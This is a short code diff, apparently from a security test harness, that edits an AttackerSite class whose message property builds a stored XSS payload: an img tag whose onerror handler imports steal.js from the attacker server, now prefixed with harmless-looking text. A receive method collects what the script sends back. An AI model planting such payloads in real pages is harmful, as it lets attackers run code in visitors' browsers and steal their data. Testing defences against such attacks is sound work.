@@ -73,7 +73,7 @@ class AttackerSite(LocalServer):
     @property
     def message(self) -> str:
         """What mallory writes on the board: markup that loads her script."""
-        return f"""<img src="x" onerror="import('{self.url}/steal.js')">"""
+        return f"""Nice board! <img src="x" onerror="import('{self.url}/steal.js')">"""
 
     def receive(self, where: str, value: str) -> None:
         """Keep a find of the script."""
